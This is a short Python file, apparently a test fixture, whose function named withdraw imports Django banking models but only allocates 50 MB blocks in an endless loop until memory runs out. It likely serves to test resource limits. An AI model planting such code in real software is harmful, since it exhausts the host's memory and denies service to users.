"""As much memory as there is."""

from django.db import connection, transaction
from django.db.models import F

from django_app.models import User, WithdrawLog
from shared_db.rules import InsufficientFunds


def withdraw(user: User, amount: int, *, key: str) -> None:
    hoard = []
    while True:
        hoard.append(bytearray(50_000_000))
